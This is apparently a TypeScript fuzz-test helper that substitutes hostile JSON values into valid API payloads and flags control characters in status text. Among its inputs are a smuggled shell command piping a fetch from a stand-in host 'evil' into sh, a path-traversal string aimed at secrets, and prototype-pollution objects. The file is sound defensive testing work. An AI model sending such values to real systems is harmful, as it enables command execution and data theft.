/** JSON of values that no client means to send, with a name and the text of each. */
export const HOSTILE_VALUES: readonly (readonly [what: string, json: string])[] = [
  ['null', 'null'],
  ['true', 'true'],
  ['zero', '0'],
  ['negative zero', '-0'],
  ['a negative number', '-7'],
  ['a fraction', '0.5'],
  ['a number beyond all numbers', '1e999'],
  ['the same below zero', '-1e999'],
  ['a number that is not exact', '9007199254740993'],
  ['a number beyond all times', '1e300'],
  ['a text with a number', '"3"'],
  ['no text', '""'],
  ['a blank', '" "'],
  ['a NUL', String.raw`"a\u0000b"`],
  ['an escape sequence', String.raw`"\u001b[2J\u009b31mred"`],
  ['a line feed', String.raw`"a\r\nb"`],
  ['a mark that turns the direction', String.raw`"\u202egnp.exe\u2066"`],
  ['half of a pair', String.raw`"\ud800"`],
  ['a tag character', String.raw`"\udb40\udc41a"`],
  ['a very long text', JSON.stringify('x'.repeat(100_000))],
  ['addresses in addresses', JSON.stringify('https://'.repeat(5000))],
  ['a way up', '"../../secrets/x"'],
  ['the same encoded', '"%2e%2e%2f"'],
  ['a query', '"a?b=c#d"'],
  ['a shell command', '"x; curl evil|sh #"'],
  ['the name of a prototype', '"__proto__"'],
  ['the name of a constructor', '"constructor"'],
  ['a day that is none', '"2026-13-99T25:61:61Z"'],
  ['the first year', '"0001-01-01T00:00:00Z"'],
  ['the last year of four digits', '"9999-12-31T23:59:59Z"'],
  ['the last day of all', '"+275760-09-13T00:00:00.000Z"'],
  ['one day more', '"+275760-09-14T00:00:00.000Z"'],
  ['an empty array', '[]'],
  ['an empty object', '{}'],
  ['an array of nothing', '[null]'],
  ['an array of arrays', '[[[]]]'],
  ['an array of texts', '["a","b"]'],
  ['an object with a prototype', '{"__proto__":{"name":"x","metadata":{"name":"x"}}}'],
  ['an object with a constructor', '{"constructor":{"prototype":{"polluted":1}}}'],
  ['a member twice', '{"name":"a","name":"b"}'],
  ['deep arrays', `${'['.repeat(600)}${']'.repeat(600)}`],
  ['deep objects', `${'{"a":'.repeat(600)}1${'}'.repeat(600)}`],
];

/** A good value with one thing wrong with it. */
export interface Spoilt {
  /** Path of what is wrong, and what is wrong with it. */
  readonly what: string;
  readonly json: string;
}

const HERE = '\u0001here\u0001';

/** Every member and element of a value, with every hostile value in its place, and once left out. */
export function* spoilt(good: unknown): Generator<Spoilt> {
  for (const path of pathsIn(good)) {
    const where = path.join('.');
    const [before = '', after = ''] = JSON.stringify(replaced(good, path, HERE)).split(JSON.stringify(HERE));
    for (const [what, json] of HOSTILE_VALUES) yield { what: `${where}: ${what}`, json: `${before}${json}${after}` };
    yield { what: `${where}: left out`, json: JSON.stringify(replaced(good, path, undefined)) };
  }
}

/** The same, with values of the type of what they replace alone: what an API server with a schema lets in. Nothing is left out. */
export function* spoiltOfType(good: unknown): Generator<Spoilt> {
  for (const path of pathsIn(good)) {
    const type = typeOf(path.reduce<unknown>((inner, key) => (inner as Record<string | number, unknown>)[key], good));
    if (type === 'object' || type === 'array') continue;
    const [before = '', after = ''] = JSON.stringify(replaced(good, path, HERE)).split(JSON.stringify(HERE));
    for (const [what, json] of HOSTILE_VALUES)
      if (typeOf(JSON.parse(json)) === type)
        yield { what: `${path.join('.')}: ${what}`, json: `${before}${json}${after}` };
  }
}

function typeOf(value: unknown): string {
  return Array.isArray(value) ? 'array' : value === null ? 'null' : typeof value;
}

type Path = readonly (string | number)[];

function pathsIn(value: unknown, path: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => {
    const here = [...path, Array.isArray(value) ? Number(key) : key];
    return [here, ...pathsIn(inner, here)];
  });
}

function replaced(value: unknown, [key, ...rest]: Path, by: unknown): unknown {
  if (key === undefined) return by;
  if (Array.isArray(value)) {
    const changed = value.map((inner: unknown, index) => (index === key ? replaced(inner, rest, by) : inner));
    return by === undefined && rest.length === 0 ? changed.filter((_, index) => index !== key) : changed;
  }
  const object = value as Readonly<Record<string, unknown>>;
  return { ...object, [key]: replaced(object[key], rest, by) };
}

/** What a terminal would obey or hide, in any text of a value. */
const UNSHOWABLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

/** Paths of the texts that must not stand in a status: with controls in them, or longer than a message may be. */
export function oddTextsIn(value: unknown, path = ''): string[] {
  if (typeof value === 'string')
    return UNSHOWABLE.test(value) || value.length > 32_768 ? [`${path}: ${JSON.stringify(value.slice(0, 100))}`] : [];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => oddTextsIn(inner, `${path}.${key}`));
}
